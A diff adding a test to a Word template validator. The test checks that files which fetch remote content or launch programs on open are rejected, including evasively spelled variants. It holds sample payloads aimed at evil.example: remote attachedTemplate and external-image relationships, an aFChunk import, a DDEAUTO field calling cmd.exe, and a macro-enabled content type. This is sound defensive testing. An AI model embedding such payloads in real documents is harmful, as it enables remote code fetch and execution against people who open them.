@@ -89,3 +89,47 @@ test('thirty megabytes of picture are too large', async () => {
   const heavy = zipSync({ ...files, 'word/media/image1.png': new Uint8Array(30 * 1024 * 1024).fill(7) }, { level: 0 })
   await assert.rejects(told(heavy), /Tệp quá lớn \(trên 20 MB/)
 })
+
+test('a file that would fetch or start something when Word opens it is sent back, however that is spelled', async () => {
+  const files = unzipSync(await word([line('{ten}')]))
+  const related = (xml: string, at = 'word/_rels/settings.xml.rels') =>
+    zipSync({ ...files, [at]: strToU8(`<Relationships>${xml}</Relationships>`) })
+  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+  const strange = {
+    'with simple quotes': related(
+      `<Relationship Id='r' Type='${type}/attachedTemplate' Target='http://evil.example/t.dotm' TargetMode='External'/>`,
+    ),
+    'called a link by its address': related(
+      `<Relationship Id="r" Type="${type}/attachedTemplate" Target="http://evil.example/hyperlink" TargetMode="External"/>`,
+    ),
+    'behind a sign': related(`<Relationship Id="r>" Type="${type}/image" Target="http://evil.example/x.png" TargetMode="External"/>`),
+    'with spaces': related(`<Relationship Id="r" Type="${type}/image" Target="http://evil.example/x.png" TargetMode = "External"/>`),
+    'under another prefix': related(`<x:Relationship Id="r" Type="${type}/frame" Target="http://evil.example/x" TargetMode="External"/>`),
+    'in letters written as numbers': related(
+      `<Relationship Id="r" Type="${type}/image" Target="http://evil.example/x" TargetMode="&#69;xternal"/>`,
+    ),
+    'in a part with large letters': related(
+      `<Relationship Id="r" Type="${type}/image" Target="http://evil.example/x" TargetMode="External"/>`,
+      'word/_rels/Settings.xml.RELS',
+    ),
+    'a page taken in': related(`<Relationship Id="r" Type="${type}/aFChunk" Target="evil.example.html"/>`),
+    'a field that calls a program': await atEnd(
+      '<w:p><w:r><w:instrText> DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\cmd.exe "evil.example"</w:instrText></w:r></w:p>',
+    ),
+    'a picture by a field': await atEnd('<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/x.png"/></w:p>'),
+  }
+  for (const [how, bytes] of Object.entries(strange)) await assert.rejects(checkTemplate(bytes, fields), /evil\.example/, how)
+  const renamed = zipSync({
+    ...files,
+    '[Content_Types].xml': strToU8('<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
+  })
+  await assert.rejects(checkTemplate(renamed, fields), /macro/)
+  const link = `<Relationship Id="r" Type="${type}/hyperlink" Target="https://chinhphu.vn" TargetMode="External"/>`
+  assert.equal(await told(related(link)), '', 'a link that is clicked is no harm')
+  assert.equal(
+    await told(
+      await atEnd('<w:p><w:fldSimple w:instr="PAGE"/><w:r><w:instrText>HYPERLINK "https://chinhphu.vn"</w:instrText></w:r></w:p>'),
+    ),
+    '',
+  )
+})
